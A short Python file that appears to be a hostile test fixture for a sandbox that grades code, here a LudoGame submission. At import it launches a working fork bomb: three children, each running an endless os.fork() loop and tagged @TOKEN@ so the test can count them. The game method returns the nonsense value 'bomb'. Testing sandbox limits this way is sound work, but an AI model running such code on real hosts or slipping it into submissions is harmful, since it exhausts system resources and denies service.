# A fork bomb at import: every process forks for ever (each a python3 whose command line
# holds @TOKEN@, so that the test can count them on the host), and the game answers
# nonsense. The sandbox's process cap holds it; nothing is left after the check.
import os

BOMB = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n"
for _ in range(3):
    try:
        if os.fork() == 0:
            os.execv("/usr/bin/python3", ["python3", "-c", BOMB, "@TOKEN@"])
    except OSError:
        break


class LudoGame:
    def play_game(self, players, turns):
        return ["bomb"]
